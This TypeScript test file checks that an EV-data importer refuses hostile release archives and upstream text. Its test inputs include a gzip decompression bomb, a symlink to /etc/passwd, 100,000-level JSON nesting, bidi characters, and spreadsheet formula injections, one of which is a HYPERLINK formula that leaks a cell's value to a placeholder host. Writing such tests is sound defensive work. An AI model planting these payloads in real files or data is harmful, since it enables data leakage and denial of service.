// The importer bounded like the checks (issue 38): hostile releases (an archive of zeros, oversized or too many
// files, links, deep nesting, broken JSON) are refused in one plain line naming the file, and upstream text the checks
// would refuse never reaches data/.
import { cpSync, createWriteStream, mkdtempSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { createGzip, gzipSync } from 'node:zlib';
import fg from 'fast-glob';
import tar from 'tar-stream';
import { describe, expect, it } from 'vitest';
import { readUpstreamRelease, RELEASE_LIMITS } from '../../build/upstream/open-ev-data/checkout.ts';
import { importOpenEvData, ImportRefused } from '../../build/upstream/open-ev-data/import.ts';
import { importReport } from '../../build/upstream/open-ev-data/report.ts';
import { screenRecord, upstreamTextProblem } from '../../build/upstream/open-ev-data/screen.ts';
import { MAX_JSON_DEPTH, parseJsonText } from '../../build/upstream/json-text.ts';
import { treeDigest } from '../helpers/fixture.ts';
import { importProject, OED_FIXTURE } from '../helpers/open-ev-data.ts';

const temp = () => mkdtempSync(path.join(os.tmpdir(), 'ev-oed-bounds-'));
const ARROW = 'src/fixture_motors/arrow/2024/arrow.json';
const PERFORMANCE = 'src/fixture_motors/arrow/2024/arrow_performance.json';

/** A copy of the fixture release with some files replaced (by path from its root); returns its folder. */
function releaseWith(files: Record<string, string> = {}): string {
  const dir = temp();
  cpSync(OED_FIXTURE, dir, { recursive: true });
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, name), text);
  return dir;
}

type Entry = { name: string; body?: Buffer; size?: number; type?: 'file' | 'symlink'; linkname?: string };

/** A .tar.gz of the fixture release under one top folder, then `extra` entries (a body, or `size` zero bytes). */
async function archive(extra: Entry[] = [], withFixture = true): Promise<string> {
  const file = path.join(temp(), 'open-ev-data-dataset-1.24.0.tar.gz');
  const pack = tar.pack();
  const written = pipeline(pack, createGzip({ level: 1 }), createWriteStream(file));
  const top = 'open-ev-data-dataset-1.24.0/';
  if (withFixture)
    for (const name of fg.sync('**/*', { cwd: OED_FIXTURE }).sort())
      pack.entry({ name: `${top}${name}` }, readFileSync(path.join(OED_FIXTURE, name)));
  for (const entry of extra) {
    const name = `${top}${entry.name}`;
    if (entry.type === 'symlink') pack.entry({ name, type: 'symlink', linkname: entry.linkname! });
    else if (entry.body) pack.entry({ name }, entry.body);
    else {
      const stream = pack.entry({ name, size: entry.size! });
      await pipeline(Readable.from(zeroChunks(entry.size!)), stream);
    }
  }
  pack.finalize();
  await written;
  return file;
}

function* zeroChunks(size: number) {
  const chunk = Buffer.alloc(1024 * 1024);
  for (let left = size; left > 0; left -= chunk.length) yield left >= chunk.length ? chunk : chunk.subarray(0, left);
}

describe('a release archive is streamed, and only the files the import uses are read, within caps', () => {
  it('refuses gzipped zeros past what any release unpacks to, without reading on', async () => {
    const file = path.join(temp(), 'zeros.tar.gz');
    writeFileSync(file, gzipSync(Buffer.alloc(3 * 1024 * 1024)));
    const limits = { ...RELEASE_LIMITS, archiveBytes: 1024 * 1024 };
    await expect(readUpstreamRelease(file, limits)).rejects.toThrow(
      `${file} unpacks to more than 1 MiB; not an OpenEV Data release archive`,
    );
  });

  it('skips a large file it does not use, and refuses the archive when everything passes the cap', async () => {
    const big = await archive([{ name: 'docs/zeros.bin', size: 3 * 1024 * 1024 }]);
    expect((await readUpstreamRelease(big)).files.size).toBe(fg.sync('src/**/*.json', { cwd: OED_FIXTURE }).length);
    const limits = { ...RELEASE_LIMITS, archiveBytes: 2 * 1024 * 1024 };
    await expect(readUpstreamRelease(big, limits)).rejects.toThrow(/unpacks to more than 2 MiB/);
  });

  it('refuses a file it would read that is larger than a release file may be, before reading it', async () => {
    const file = await archive([{ name: 'src/zeros/zeros/2024/zeros.json', size: RELEASE_LIMITS.fileBytes + 1 }]);
    await expect(readUpstreamRelease(file)).rejects.toThrow(
      `${file}: src/zeros/zeros/2024/zeros.json is larger than 1 MiB, the most one release file may hold; not an OpenEV Data release`,
    );
  });

  it('refuses more files, or more bytes in all, than the caps allow (folder and archive alike)', async () => {
    const limits = { ...RELEASE_LIMITS, files: 10 };
    await expect(readUpstreamRelease(OED_FIXTURE, limits)).rejects.toThrow(
      /: the files to read pass 10 files or 32 MiB at \S+; not an OpenEV Data release$/,
    );
    await expect(readUpstreamRelease(await archive(), { ...RELEASE_LIMITS, totalBytes: 4096 })).rejects.toThrow(
      /: the files to read pass 20000 files or 0\.00 MiB at \S+; not an OpenEV Data release$/,
    );
  });

  it('refuses a link in an archive where a file it reads should be, naming it', async () => {
    const file = await archive([{ name: 'LICENCE', type: 'symlink', linkname: '/etc/passwd' }], false);
    await expect(readUpstreamRelease(file)).rejects.toThrow(
      `${file}: open-ev-data-dataset-1.24.0/LICENCE is a symlink, not a file; a release archive holds its files`,
    );
  });

  it('says what is wrong with a file that is no gzip archive', async () => {
    const file = path.join(temp(), 'release.tar.gz');
    writeFileSync(file, 'not gzip');
    await expect(readUpstreamRelease(file)).rejects.toThrow(
      /^\S+release\.tar\.gz: not a readable \.tar\.gz release archive \(incorrect header check\)$/,
    );
  });
});

describe('a release folder with links', () => {
  it('follows a linked LICENCE that stays inside the folder', async () => {
    const dir = releaseWith();
    cpSync(path.join(dir, 'LICENCE'), path.join(dir, 'LICENCE.md'));
    unlinkSync(path.join(dir, 'LICENCE'));
    symlinkSync('LICENCE.md', path.join(dir, 'LICENCE'));
    expect((await readUpstreamRelease(dir)).licence).toMatch(/^# Community Data License Agreement - Permissive/);
  });

  it('refuses a link that leaves the folder, naming the link', async () => {
    const dir = releaseWith();
    const outside = path.join(temp(), 'LICENCE');
    cpSync(path.join(dir, 'LICENCE'), outside);
    unlinkSync(path.join(dir, 'LICENCE'));
    symlinkSync(outside, path.join(dir, 'LICENCE'));
    await expect(readUpstreamRelease(dir)).rejects.toThrow(
      `${path.join(dir, 'LICENCE')} is a symbolic link to ${outside}, outside the release folder; refused`,
    );
    unlinkSync(path.join(dir, 'LICENCE'));
    symlinkSync(path.join(dir, 'nowhere'), path.join(dir, 'LICENCE'));
    await expect(readUpstreamRelease(dir)).rejects.toThrow(/LICENCE is a symbolic link to nothing/);
  });
});

describe('JSON the importer parses', () => {
  it('refuses nesting deeper than a record ever is, located, before the parse', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    expect(() => parseJsonText(deep, 'src/a/b/2024/b.json')).toThrow(
      `src/a/b/2024/b.json:1:${MAX_JSON_DEPTH + 1}: JSON nested deeper than 64 levels; not an upstream record`,
    );
    // Brackets inside strings are text, not nesting.
    expect(parseJsonText(JSON.stringify({ title: '['.repeat(1000) }), 'x.json')).toEqual({ title: '['.repeat(1000) });
  });

  it('names the file and the line of a deep or broken record, and of a broken package.json, through the import', async () => {
    const root = importProject();
    const deep = releaseWith({ [ARROW]: `{\n  "year": ${'['.repeat(100_000)}${']'.repeat(100_000)}\n}\n` });
    await expect(importOpenEvData({ root, from: deep })).rejects.toThrow(
      `${ARROW}:2:${10 + MAX_JSON_DEPTH}: JSON nested deeper than 64 levels; not an upstream record`,
    );
    const broken = releaseWith({ 'package.json': '{\n  "version": "1.24.0",\n}\n' });
    await expect(importOpenEvData({ root, from: broken })).rejects.toThrow(
      `${broken}/package.json:3:1: not valid JSON (Expected double-quoted property name in JSON)`,
    );
  });
});

describe("upstream text held to the checks' rules before anything is written", () => {
  it('names what the checks would refuse in a text cell: length, control, invisible and formula characters', () => {
    expect(upstreamTextProblem('Fixture Motors')).toBeNull();
    expect(upstreamTextProblem('x'.repeat(5000))).toMatch(/holds 5000 characters; a cell holds at most 4000/);
    expect(upstreamTextProblem('Arrow\u0001')).toMatch(/control character U\+0001 at character 6/);
    for (const char of ['\u202e', '\u2066', '\u200b', '\u200f', '\ufeff'])
      expect(upstreamTextProblem(`Ar${char}row`)).toMatch(/invisible character U\+.{4} at character 3/);
    for (const lead of ['=', '+', '-', '@'])
      expect(upstreamTextProblem(`${lead}HYPERLINK("x")`)).toBe(
        `begins with "${lead}", which a spreadsheet reads as a formula; reword it (only a number may begin with + or -)`,
      );
    expect(upstreamTextProblem('Model 3 - RWD')).toBeNull();
  });

  it('refuses a record whose name breaks a rule, and leaves out a cited document that does', () => {
    const record = {
      path: ARROW,
      make: { slug: 'fixture_motors', name: 'Fixture Motors' },
      model: { slug: 'arrow', name: 'Arrow' },
      trim: 'RWD',
      variant: null,
      sources: [
        { type: 'oem', title: 'kept', url: 'https://example.com/a', accessed_at: null },
        { type: 'oem', title: '=cmd()', url: 'https://example.com/b', accessed_at: null },
      ],
    } as unknown as Parameters<typeof screenRecord>[0];
    const screened = screenRecord(record);
    expect(screened.record!.sources.map((s) => s.title)).toEqual(['kept']);
    expect(screened.cut).toEqual([
      {
        path: ARROW,
        error:
          'sources.1.title: begins with "=", which a spreadsheet reads as a formula; reword it (only a number may begin with + or -); that cited document is left out',
      },
    ]);
    expect(screenRecord({ ...record, trim: 'R\u202eWD' })).toEqual({
      record: null,
      cut: [{ path: ARROW, error: expect.stringMatching(/^trim\.name: holds the invisible .* U\+202E/) }],
    });
  });

  it('imports a release with hostile text: the checks pass, and the report says what was left out and why', async () => {
    const root = importProject();
    const edit = (file: string, change: (json: Record<string, unknown>) => void) => {
      const json = JSON.parse(readFileSync(path.join(OED_FIXTURE, file), 'utf8')) as Record<string, unknown>;
      change(json);
      return JSON.stringify(json, null, 2);
    };
    const hostile = releaseWith({
      [PERFORMANCE]: edit(PERFORMANCE, (json) => {
        json.sources = [
          { type: 'oem', title: `Long ${'x'.repeat(5000)}`, url: 'https://example.com/long' },
          { type: 'oem', title: 'Tab\tin title', url: 'https://example.com/tab' },
          { type: 'oem', title: '=HYPERLINK("http://example.com/?leak="&A1,"Click me")', url: 'https://example.com/f' },
        ];
      }),
      'src/testwerk/t_3/2024/t_3_gtx.json': edit('src/testwerk/t_3/2024/t_3_gtx.json', (json) => {
        json.trim = { slug: 'gtx', name: 'G\u202eXTX' };
      }),
    });
    const result = await importOpenEvData({ root, from: hostile });
    expect(result.release.cut.map((c) => c.error.split(':')[0])).toEqual([
      'sources.0.title',
      'sources.1.title',
      'sources.2.title',
    ]);
    expect(result.release.unreadable).toEqual([
      {
        path: 'src/testwerk/t_3/2024/t_3_gtx.json',
        error:
          'trim.name: holds the invisible character U+202E at character 2; remove it (it reorders or splits the text)',
      },
    ]);
    const report = importReport(result);
    expect(report).toContain('## Values left out (the checks would refuse them)');
    expect(report).toContain(
      `- ${PERFORMANCE}: sources.1.title: holds the control character U+0009 at character 4; remove it (it is never data); that cited document is left out`,
    );
    const sources = readFileSync(path.join(root, 'data/sources.yaml'), 'utf8');
    expect(sources).not.toContain('HYPERLINK');
    expect(sources).not.toContain('x'.repeat(5000));
    expect(readFileSync(path.join(root, 'data/vehicles.csv'), 'utf8')).not.toContain('\u202e');
  });

  it('writes nothing when what it would write breaks a check, and names where', async () => {
    const root = importProject();
    const before = treeDigest(path.join(root, 'data'));
    const json = JSON.parse(readFileSync(path.join(OED_FIXTURE, PERFORMANCE), 'utf8')) as { trim: object };
    // A name within a cell's limit, but the record's source title built from it is not.
    json.trim = { slug: 'performance', name: 'P'.repeat(3990) };
    const long = releaseWith({ [PERFORMANCE]: JSON.stringify(json) });
    const refused = importOpenEvData({ root, from: long });
    await expect(refused).rejects.toThrow(ImportRefused);
    await expect(importOpenEvData({ root, from: long })).rejects.toThrow(
      /^the checks would refuse what the import would write \(nothing was written\): data\/\S+:\d+:\d+: \[schema\] /,
    );
    expect(treeDigest(path.join(root, 'data'))).toEqual(before);
  });
});
